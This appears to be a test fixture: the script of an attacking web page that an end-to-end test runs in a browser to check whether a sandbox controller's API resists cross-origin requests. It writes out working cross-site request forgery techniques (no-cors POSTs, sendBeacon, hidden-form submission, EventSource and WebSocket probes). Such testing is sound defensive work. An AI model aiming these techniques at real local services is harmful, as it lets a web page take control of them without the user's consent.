// The script of an attacking page: `tests/e2e/web-page.test.ts` hands it to a real browser.

/** Tries all that browsers let pages do without asking, against the controller at `target`, and reports each outcome to the page's own server. */
export async function attack(target, id, home) {
  const outcomes = {};
  const attempt = async (name, run) => {
    outcomes[name] = await run().catch((error) => `threw ${String(error)}`);
  };
  const json = { 'content-type': 'application/json' };
  const fork = JSON.stringify({ snapshot_tag: 'base' });
  const ask = (route, init) => async () => {
    const reply = await fetch(`${target}${route}`, init);
    return reply.type === 'opaque' ? 'opaque' : `${reply.status} ${(await reply.text()).slice(0, 200)}`;
  };
  const plain = { method: 'POST', mode: 'no-cors' };
  await attempt('fork as text', ask('/v1/sandboxes', { ...plain, body: fork }));
  await attempt('fork as JSON', ask('/v1/sandboxes', { method: 'POST', headers: json, body: fork }));
  await attempt('branch', ask(`/v1/sandboxes/${id}/branch`, plain));
  await attempt('pause', ask(`/v1/sandboxes/${id}/pause`, plain));
  await attempt('list', ask('/v1/sandboxes', {}));
  await attempt('metrics', ask('/metrics', { mode: 'no-cors' }));
  await attempt('beacon', async () => String(navigator.sendBeacon(`${target}/v1/sandboxes/${id}/pause`)));
  await attempt('events', () => {
    const source = new EventSource(`${target}/v1/events`);
    return new Promise((resolve) => {
      source.addEventListener('open', () => resolve('open'));
      source.addEventListener('error', () => resolve('error'));
    });
  });
  await attempt('web socket', () => {
    const socket = new WebSocket(`${target.replace('http', 'ws')}/v1/events`);
    return new Promise((resolve) => {
      socket.addEventListener('open', () => resolve('open'));
      socket.addEventListener('error', () => resolve('error'));
    });
  });
  await attempt('form', () => {
    const frame = document.createElement('iframe');
    frame.name = 'frame';
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', enctype: 'text/plain', target: 'frame' });
    form.action = `${target}/v1/sandboxes/${id}/branch`;
    document.body.append(frame, form);
    const loaded = new Promise((resolve) => frame.addEventListener('load', () => resolve('loaded')));
    form.submit();
    return loaded;
  });
  await fetch(`${home}/report`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(outcomes) });
}
